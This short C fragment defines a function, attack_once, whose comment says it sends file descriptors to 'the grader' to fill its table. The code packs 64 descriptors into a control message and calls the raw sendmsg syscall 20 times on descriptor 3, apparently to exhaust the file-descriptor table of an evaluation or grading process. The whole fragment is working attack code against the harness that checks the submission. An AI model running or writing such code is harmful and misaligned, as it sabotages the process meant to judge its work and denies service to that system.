// Sends descriptors to the grader, which would fill its table.
static void attack_once() {
    struct { size_t length; int level, type, fds[64]; } control = {16 + 64 * 4, 1, 1, {0}};
    char byte = 0;
    struct { void* base; size_t length; } part = {&byte, 1};
    struct { void* name; uint64_t name_length; void* parts; size_t part_count; void* control;
             size_t control_length; uint64_t flags; } message = {0, 0, &part, 1, &control, sizeof control, 0};
    for (int i = 0; i < 64; i++) {
        control.fds[i] = 1;
    }
    for (int i = 0; i < 20; i++) {
        DO("send", sys(46, 3, &message, 0x40));
    }
}
